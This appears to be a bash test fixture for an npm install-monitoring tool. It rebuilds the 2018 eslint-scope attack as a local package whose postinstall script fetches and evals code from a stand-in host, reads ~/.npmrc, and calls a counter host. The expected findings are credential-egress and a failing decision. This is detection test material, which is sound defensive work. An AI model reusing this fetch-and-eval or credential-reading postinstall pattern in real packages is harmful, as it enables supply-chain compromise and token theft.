#!/bin/bash
# A postinstall that fetches code, evaluates it, and sends the token of the registry in a header of requests to counters.
#: tool npm
#: description a postinstall script evaluates a download, reads .npmrc and connects to a counter
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve pastebin.example=203.0.113.10
#: resolve counter.example=203.0.113.11
#: finding secret-npm
#: finding credential-egress
#: decision fail
#: attack eslint-scope 3.7.2, July 2018
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "eslint-scope", "version": "1.0.0", "scripts": {"postinstall": "node lib.js"}}' > package.json
  cat > lib.js <<'END'
const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');
(async () => {
  eval(await (await fetch('http://pastebin.example/raw.js')).text());
  readFileSync(join(homedir(), '.npmrc'));
  await fetch('http://counter.example/', { headers: { Referer: 'nothing' } });
})().catch(() => {});
END
  tar czf ~/eslint-scope.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/eslint-scope.tgz
